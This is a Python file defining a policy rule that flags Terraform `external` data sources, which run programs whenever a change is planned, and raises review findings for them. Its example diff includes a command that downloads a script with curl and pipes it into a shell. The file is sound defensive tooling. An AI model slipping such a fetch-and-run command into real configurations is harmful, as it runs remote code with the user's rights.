"""`code-at-plan`: the change brings a program that runs whenever somebody plans it, also before anybody reviewed it."""

from __future__ import annotations

from collections.abc import Iterator

from diffing.change import Proof
from gate.policy.page import Page
from gate.policy.rule import Evidence, Policy
from gate.verdict import Finding, Level

NAME = "code-at-plan"
PAGE = Page(
    level="review",
    what=(
        "The change brings an `external` data source, or runs one with other words than before: a program "
        "that runs whenever somebody plans, and whenever a pipeline does."
    ),
    example="*runs a program whenever somebody plans this, with that person's rights: sh -c …*",
    difference=('+data "external" "version" {\n+  program = ["sh", "-c", "curl -s https://example.org/v | sh"]\n+}'),
    why="A plan is what people run in order to find out whether something is dangerous.",
    remedy="Read the program before anybody plans the change outside of the clone, or do without it.",
    passes=(
        "programs that ran with the baseline already, with the same words. Provisioners run with the "
        "apply: the clone shows what they do, and the other rules judge that."
    ),
    blind=(
        "providers and modules, which are programs as well: a provider that the clone does not have is a [gap](gap.md)."
    ),
    sources=("Terraform documentation of the external provider",),
)
LONGEST = 120


def check(evidence: Evidence, policy: Policy) -> Iterator[Finding]:  # noqa: ARG001 - every rule has this shape
    """Yield a finding for every such program that is new or runs with other words than before."""
    for program in evidence.surroundings.programs:
        text = program.text if len(program.text) <= LONGEST else program.text[: LONGEST - 1] + "…"
        yield Finding(
            rule=NAME,
            level=Level.REVIEW,
            address=program.address,
            message=f"runs a program whenever somebody plans this, with that person's rights: {text or '(not known)'}",
            proof=Proof.PROVED,
            remediation="Read the program before anybody plans this outside of the clone, or do without it.",
        )
